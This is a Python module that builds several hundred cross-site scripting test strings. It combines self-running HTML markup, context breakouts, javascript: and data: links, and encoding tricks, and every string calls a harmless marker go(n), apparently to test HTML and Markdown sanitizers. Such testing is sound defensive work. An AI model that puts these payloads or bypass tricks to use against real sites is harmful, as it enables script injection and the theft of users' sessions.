"""What tries to run in a page: known kinds of markup × how it is written × what it breaks out of. Each says `go(number)`."""

import re
from html import escape
from itertools import cycle
from urllib.parse import quote

# markup that runs by itself, § stands for what it runs
KINDS = (
    "<script>§</script>", "<script src=data:,§></script>", "<img src=x onerror=§>", "<image src=x onerror=§>",
    "<svg onload=§>", "<svg><script>§</script></svg>", "<svg><animate onbegin=§ attributeName=x dur=1s>",
    "<svg><set onbegin=§ attributeName=x dur=1s>", "<body onload=§>", "<body onpageshow=§>", "<video src=x onerror=§>",
    "<video><source src=x onerror=§>", "<audio src=x onerror=§>", "<details open ontoggle=§>y</details>",
    "<input autofocus onfocus=§>", "<select autofocus onfocus=§>", "<textarea autofocus onfocus=§>", "<a autofocus href=# onfocus=§>y",
    "<iframe onload=§>", "<iframe src=javascript:§>", "<iframe srcdoc='<script>§</script>'>", "<object data=x onerror=§>",
    "<embed src=javascript:§>", "<link rel=stylesheet href=x onerror=§>", "<style onload=§></style>",
    "<marquee onstart=§>y</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror=§>", "<p tabindex=1 autofocus onfocus=§>y",
    "<form><button autofocus onfocus=§>y",
    "<meta http-equiv=refresh content=0;url=javascript:§>", "<base href=javascript:§//><a href=#>y",
    "<template><script>§</script></template><img src=x onerror=§>", "<noscript><p title='</noscript><img src=x onerror=§>'>",
)  # fmt: skip
# what stands around: the places that a text may come to stand in, and what ends them
PLACES = (
    "{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "</script>{}", "</style>{}", "-->{}", "]]>{}", "</p></article>{}",
    "**{}**", "[{}](https://a.example)", "`{}`{}", "| a |\n|---|\n| {} |", "- {}", "> {}", "![{}](x)", "&lt;{}", "\u202e{}", "{{7*7}}{}",
)  # fmt: skip
# links that run something when they are followed, and attributes that break out of one
LINKS = (
    "[x](javascript:§)", "[x](JaVaScRiPt:§)", "[x](java\tscript:§)", "[x](java&#10;script:§)", "[x](&#106;avascript:§)",
    "[x](\x01javascript:§)",
    "[x](<javascript:§>)", "[x](data:text/html,<script>§</script>)", "[x](vbscript:§)", "<javascript:§>", "[x][y]\n\n[y]: javascript:§",
    '[x](https://a.example" onmouseover="§)', "[x](https://a.example 'y\" onmouseover=\"§')", '![x" onerror="§](x)',
    "[x](//a.example/\"onfocus=§ autofocus=\")",
)  # fmt: skip


def _mixed(text):
    return "".join(c.upper() if i % 2 else c for i, c in enumerate(text))


# the same, written otherwise: § is put in afterwards, as names of functions are not free
WRITTEN = (
    lambda v: v,
    lambda v: "§".join(part.upper() for part in v.split("§")),
    lambda v: "§".join(map(_mixed, v.split("§"))),
    lambda v: re.sub(r"^<(\w+) ", r"<\1/", v),
    lambda v: re.sub(r"^<(\w+) ", "<\\1\x0c", v),
    lambda v: re.sub(r"^<(\w+) ", "<\\1\n", v),
    lambda v: v.replace("=§", '="§"'),
    lambda v: v.replace("=§", "='§'"),
    lambda v: v.replace("=§", "=`§`"),
    lambda v: v.replace(">", " //", 1) if v.endswith("§>") else v,
    lambda v: v.removesuffix(">"),
    lambda v: v.replace("<script", "<scr<script>ipt").replace("<img", "<<img"),
    lambda v: v.replace("<", "\x00<"),
    escape,
    lambda v: "".join(f"&#{ord(c)};" if c in "<>=" else c for c in v),
    lambda v: "".join(f"&#x{ord(c):x}" if c in "<>" else c for c in v),
    lambda v: v.replace("<", "＜").replace(">", "＞"),
    lambda v: v.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda v: quote(v, safe="= ").replace(quote("§"), "§"),
)


def vectors():
    """At least 500 texts, all different; number n calls go(n)."""
    made = {written(kind) for kind in KINDS for written in WRITTEN}
    places = cycle(PLACES)
    made = {place.replace("{}", v) for v in sorted(made) for place in (next(places), "{}")} | set(LINKS)
    return [v.replace("§", f"go({n})") for n, v in enumerate(sorted(made), 1)]
